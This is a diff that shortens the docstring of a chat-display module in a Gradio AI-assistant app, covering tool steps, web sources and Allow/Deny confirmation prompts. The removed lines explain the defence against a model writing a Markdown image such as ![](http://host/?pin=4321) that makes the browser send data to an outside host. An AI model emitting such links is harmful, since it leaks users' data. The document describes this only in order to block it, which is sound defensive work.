@@ -1,36 +1,13 @@
 """What the Chat tab shows: stored messages and live turn events as ``gr.ChatMessage`` lists.
 
-Pure functions over ``memory.store.Message`` and the turn events of ``graph.events``, so
-the same turn looks the same while it streams and after a reload:
-
-- a user message is one bubble: its image (if any) and its text;
-- each tool step is its own collapsible message titled for people ("Searched the web for
-  “USD to JPY”", "Weather in Tokyo", "Saved to memory: name — Budi"; ``step_title``),
-  pending while it runs, then done with its duration (``graph_view.duration_text``, the
-  one format of every duration the app shows); inside, collapsed, the command or
-  arguments and the raw result as JSON — never the stored "🔧 TOOL RESULT" text;
-- the sources of the turn's web searches are listed as links under its answer
-  (``sources_markdown``: http(s) URLs only, titles escaped);
-- a call not run again because it repeated one of the turn (``meta["duplicate"]``) is not
-  shown: the step of the call it repeated is;
-- text the model writes before a tool call is a plain assistant message;
-- an image made by image_generate goes into the assistant bubble that answers the turn;
-- a provider failure is an assistant message marked with a warning sign;
-- a call that waits for the person's yes (the lethal trifecta, a memory change proposed
-  while outside content is in the chat) is a question showing exactly what would be sent
-  or saved, with Allow and Deny buttons while it waits (``confirmation_bubble``; Gradio
-  shows a message's buttons only on the chat's last message, so ``TurnView.chat`` puts
-  the waiting question last), then the answer it got — the same after a reload, from
-  the call's stored ``meta["confirmation"]``.
-
-Every text shown is made inert first (``neutralise_markdown``): a model can write
-``![](http://host/?pin=4321)`` or ``<img src=…>``, and the browser would fetch that URL the
-moment the reply renders. Images become links (a click away) and raw HTML shows as text;
-fenced code blocks are left as they are, since the browser shows them as text anyway. The
-app's own images (uploads, drawings) are file parts of a message, never Markdown, and
-keep showing. The Content-Security-Policy of ``app.security`` blocks what slips through.
-
-Only the app (and its tests) import this module: gradio stays out of the CLI's import path.
+Pure functions over ``memory.Message`` and the turn events of ``graph.events``, so the
+same turn looks the same while it streams (``TurnView``) and after a reload
+(``history_messages``): a user message is one bubble; each tool step is its own
+collapsible message titled for people (``step_title``), with its duration, arguments and
+raw result; web sources are links under the answer (``sources_markdown``); a question
+waiting for the person's yes has Allow and Deny (``confirmation_bubble``). Every text
+shown is made inert first (``neutralise_markdown``). Only the app (and its tests) import
+this module: gradio stays out of the CLI's import path. The rules: docs/app.md.
 """
 
 from __future__ import annotations
